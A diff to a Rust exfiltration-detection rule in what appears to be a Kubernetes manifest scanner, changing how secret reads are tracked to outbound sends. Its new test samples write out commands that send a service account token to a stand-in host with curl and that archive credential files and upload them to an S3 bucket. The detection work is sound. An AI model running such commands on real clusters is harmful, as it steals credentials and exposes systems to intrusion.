@@ -1,7 +1,7 @@
 //! Data that is sent away.
 
-use super::fetch::is_downloader;
-use super::secrets::reads_secret;
+use super::fetch::{is_downloader, show};
+use super::secrets::{reads_secret, searches};
 use super::serve::serves_node;
 use super::shells::{is_netcat, only_probes};
 use super::url::{Reach, target};
@@ -11,6 +11,7 @@ use crate::detect::address::is_api_server;
 use crate::detect::catalog::{Exposure, Remedy, Step, links};
 use crate::detect::files::uploaded;
 use crate::detect::findings::Collector;
+use crate::detect::flow::{At, Kind};
 use crate::detect::runs::Run;
 use crate::detect::{code, code_strings};
 use crate::normalize::Invocation;
@@ -98,6 +99,35 @@ pub(super) static RULES: &[Rule] = &[
                 "volumes: [{name: v, hostPath: {path: /srv/reports}}]\ncontainers: [{name: a, command: [python3, -m, http.server, -d, /h], volumeMounts: [{name: v, mountPath: /h}]}]",
             ),
             Sample::Miss("containers: [{name: a, workingDir: /site, command: [python3, -m, http.server]}]"),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'cp /run/secrets/kubernetes.io/serviceaccount/token /tmp/z; gzip /tmp/z; curl -T /tmp/z.gz https://x.example.test/']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'read -r t < /run/secrets/kubernetes.io/serviceaccount/token; curl \"https://x.example.test/?q=$t\"']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'ln -s /run/secrets/kubernetes.io/serviceaccount /tmp/l; curl -F a=@/tmp/l/..data/token https://x.example.test/']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'curl -d @/run/secrets/kubernetes.io/serviceaccount/token https://x.example.test/login']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'find / -name credentials | xargs tar czf /tmp/c.tgz; aws s3 cp /tmp/c.tgz s3://drop/c.tgz']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'cp /run/secrets/kubernetes.io/serviceaccount/ca.crt /tmp/z; gzip /tmp/z; aws s3 cp /tmp/z.gz s3://backup/z']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'T=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -s -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api/v1/pods -o /tmp/p.json; aws s3 cp /tmp/p.json s3://backup/p.json']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s -d role=x -d jwt=@/run/secrets/kubernetes.io/serviceaccount/token http://vault.vault.svc:8200/v1/auth/kubernetes/login']}]",
+            ),
             Sample::Miss(
                 "containers: [{name: a, command: [curl, -XPUT, 'http://elasticsearch:9200/_snapshot/s/x', -d, '{\"indices\":\"*\"}']}]",
             ),
@@ -160,26 +190,23 @@ fn exfiltrates(facts: &Facts<'_>, found: &mut Collector<'_>) {
         if let Some(at) = serves_node(run) {
             found.hit_as(FULL.0, FULL.1, Some(&run.container.name), run.path(), &run.show(at));
         }
-        if !run.execution.commands.iter().any(may_send) {
-            continue;
-        }
-        let reads = reads_secret(facts, run);
-        let of_env = |invocation: &Invocation| {
-            matches!(invocation.program.as_str(), "env" | "printenv") && invocation.args.is_empty()
-                || matches!(invocation.program.as_str(), "kubectl" | "oc")
-                    && subcommand(invocation, &["secret", "secrets"])
-        };
-        let starts: Vec<*const Invocation> = run
-            .invocations()
-            .filter(|(at, invocation)| reads.get(*at) == Some(&true) || of_env(invocation))
-            .map(|(_, invocation)| std::ptr::from_ref(invocation))
-            .collect();
-        let is_secret =
-            |invocation: &Invocation| starts.binary_search(&std::ptr::from_ref(invocation)).is_ok();
-        let fed = run.fed(is_secret);
+    }
+    if !facts.runs.iter().any(|run| run.execution.commands.iter().any(may_send)) {
+        return;
+    }
+    let of_env = |invocation: &Invocation| {
+        matches!(invocation.program.as_str(), "env" | "printenv") && invocation.args.is_empty()
+            || matches!(invocation.program.as_str(), "kubectl" | "oc")
+                && subcommand(invocation, &["secret", "secrets"])
+    };
+    let reads: Vec<Vec<bool>> = facts.runs.iter().map(|run| reads_secret(facts, run)).collect();
+    let reads_at = |(run, at): At| reads.get(run).and_then(|marks| marks.get(at)) == Some(&true);
+    let is_source = |at: At, call: &Invocation| reads_at(at) || of_env(call) || searches(call);
+    let reached = facts.flow.reach(&facts.runs, is_source, Kind::Secret);
+    for (number, run) in facts.runs.iter().enumerate() {
         let mut heaviest: Option<(usize, Weight)> = None;
         for (at, invocation) in run.invocations().filter(|(_, invocation)| may_send(invocation)) {
-            let secret = fed.get(at) == Some(&true) || reads.get(at) == Some(&true);
+            let secret = reached.source_of(number, at).is_some() || reads_at((number, at));
             if let Some(weight) = weigh(run, invocation, secret)
                 && heaviest.is_none_or(|(_, known)| known.1 < weight.1)
             {
@@ -187,7 +214,8 @@ fn exfiltrates(facts: &Facts<'_>, found: &mut Collector<'_>) {
             }
         }
         if let Some((at, (severity, points))) = heaviest {
-            let evidence = run.show_flow(at, is_secret);
+            let to = (number, at);
+            let evidence = show(facts, reached.source_of(number, at).unwrap_or(to), to);
             found.hit_as(severity, points, Some(&run.container.name), run.path(), &evidence);
         }
     }
@@ -297,16 +325,13 @@ fn by_http(invocation: &Invocation, secret: bool) -> Option<Weight> {
         .filter(|word| word.contains("://") || word.contains('.') && !word.starts_with(['-', '@', '/']));
     let weights = urls.take(64).filter_map(|url| {
         let place = target(url)?;
-        // The token is for the API server, the kubelet, or a login with it (Vault, clouds).
-        let is_login =
-            ["/login", "/oauth2", "/auth/", "/v1/token"].iter().any(|part| place.path.contains(part));
+        // A path such as /login says nothing of whose host it is.
         let is_api = is_api_server(place.host);
         let in_url = url.contains("$()") || sends_file;
         match place.reach() {
             _ if is_api => None,
             // A header with a token goes to an API; where it is only known at run time, so does the token.
             Reach::Unknown if !in_url => None,
-            Reach::Named if secret && is_login => Some(ORDINARY),
             reach => weigh_reach(reach, secret, sends_file),
         }
     });
